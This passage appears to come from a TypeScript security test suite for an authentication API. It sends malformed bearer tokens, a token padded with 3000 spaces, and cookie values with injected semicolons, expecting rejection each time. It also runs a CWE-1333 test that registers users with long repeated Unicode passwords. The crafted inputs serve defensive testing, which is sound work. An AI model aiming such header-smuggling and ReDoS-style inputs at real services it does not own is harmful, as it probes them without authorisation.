      const header = short.replaceAll(/[^\x20-\x7e]/g, 'x');
      const presented: readonly Record<string, string>[] = [
        { authorization: `Bearer ${header}` },
        { authorization: `Bearer${' '.repeat(3000)}` },
        { authorization: header },
        { cookie: `__Host-gatehouse_access=${header}` },
        { cookie: header.replaceAll('a', ';') },
      ];
      for (const headers of presented) {
        const answer = await target.client().get('users/me', { headers });
        expectSane(answer, Object.keys(headers));
        expect(answer.status).toBe(401);
      }
      const credentials = { username: short.slice(0, 254), password: short.slice(0, 1024) };
      expectSane(await target.client().post('auth/login', credentials), 'login');
    }
  });

  attack('CWE-1333: a password of any script is hashed as it is, and signs in', async () => {
    for (const password of [
      'ﷺ'.repeat(128),
      '😀'.repeat(128),
      ' '.repeat(128),
      '\u0301'.repeat(128),
      '-'.repeat(128),
    ]) {
      const wanted = { ...newcomer(), password, is_verified: true };
      const token = await target.adminToken();
      expect((await target.client().post('users', wanted, { token })).status).toBe(201);
      await signIn(target, wanted);
    }
  });
});
